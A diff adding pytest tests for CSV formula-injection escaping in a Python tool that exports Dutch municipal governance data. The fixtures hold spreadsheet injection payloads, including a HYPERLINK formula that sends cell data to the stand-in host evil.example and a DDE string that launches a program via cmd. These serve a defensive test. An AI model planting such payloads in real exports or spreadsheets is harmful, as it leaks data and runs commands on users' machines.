@@ -364,3 +364,94 @@ def test_the_folder_written_holds_exactly_the_files(tmp_path: Path) -> None:
     land = democratie.load(ROOT / "examples" / "delft-zeven-van-delft.toml")
     folder = export(land, "csv", tmp_path / "delft", options=FIXED)
     assert {p.name: p.read_bytes() for p in folder.iterdir()} == csv_files(land, options=FIXED)
+
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _landscape_with_formulas() -> Landscape:
+    return democratie.loads(
+        f"""
+format = "democratie/1"
+[[municipalities]]
+id = "leusden"
+cbs_code = "GM0327"
+[[municipalities.indicators]]
+id = "saldo"
+goal = "@SUM(A1:A9)"
+direction = "omhoog"
+baseline = -3
+target = -1.5
+[[people]]
+id = "p-evil"
+name = '{EVIL}'
+[[roles]]
+holder = "p-evil"
+kind = "raadslid"
+at = "leusden-raad"
+title = "+31 6 1234 5678"
+[[initiatives]]
+id = "ini"
+title = "-min"
+kind = "experiment"
+description = "\\tcmd|' /C calc'!A0"
+""",
+    )
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() -> None:
+    files = csv_files(_landscape_with_formulas(), options={**FIXED, "scores": False})
+    nodes = files["nodes.csv"].decode("utf-8")
+    assert EVIL not in nodes.replace('""', '"').replace("'=", "")
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in nodes
+    labels = {row["id"]: row["label"] for row in read(files["nodes.csv"])}
+    assert labels["p-evil"] == "'" + EVIL
+    assert labels["ini"] == "'-min"
+    assert labels["leusden"] == "Leusden"
+    (role,) = read(files["roles.csv"])
+    assert role["title"] == "'+31 6 1234 5678"
+    assert role["holder_name"] == "'" + EVIL
+    (initiative,) = read(files["initiatives.csv"])
+    assert initiative["description"] == "'\tcmd|' /C calc'!A0"
+    (indicator,) = read(files["indicators.csv"])
+    # Numbers are data: a negative baseline is not a formula and keeps its sign.
+    assert (indicator["goal"], indicator["baseline"], indicator["target"]) == (
+        "'@SUM(A1:A9)",
+        "-3.0",
+        "-1.5",
+    )
+    for name, data in files.items():
+        if name.endswith(".csv"):
+            for line in data.decode("utf-8").splitlines():
+                for cell in next(csv.reader([line])):
+                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
+    conventions = card_section(files[DATA_CARD].decode("utf-8"), "Conventions")
+    assert "has a single quote (`'`) in front" in conventions
+
+
+def test_formulas_can_be_written_as_they_are_for_programs() -> None:
+    options = {**FIXED, "scores": False, "escape_formulas": False}
+    files = csv_files(_landscape_with_formulas(), options=options)
+    labels = {row["id"]: row["label"] for row in read(files["nodes.csv"])}
+    assert labels["p-evil"] == EVIL
+    assert labels["ini"] == "-min"
+    conventions = card_section(files[DATA_CARD].decode("utf-8"), "Conventions")
+    assert "do not open these files in a spreadsheet" in conventions
+    with pytest.raises(ExportError, match="'escape_formulas' must be True or False"):
+        csv_files(Landscape(), options={"escape_formulas": "no"})
+
+
+def test_the_command_line_escapes_formulas_unless_told_not_to(tmp_path: Path) -> None:
+    from democratie.cli import main
+
+    source = tmp_path / "evil.toml"
+    democratie.dump(_landscape_with_formulas(), source)
+    assert main(["export", str(source), "--format", "csv", "--output", str(tmp_path / "a")]) == 0
+    labels = {row["id"]: row["label"] for row in read((tmp_path / "a" / "nodes.csv").read_bytes())}
+    assert labels["p-evil"] == "'" + EVIL
+    args = ["export", str(source), "--format", "csv", "--no-escape-formulas"]
+    assert main([*args, "--output", str(tmp_path / "b")]) == 0
+    labels = {row["id"]: row["label"] for row in read((tmp_path / "b" / "nodes.csv").read_bytes())}
+    assert labels["p-evil"] == EVIL
+    args = ["export", str(source), "--format", "graphml", "--no-escape-formulas"]
+    assert main([*args, "--output", str(tmp_path / "c.graphml")]) == 2
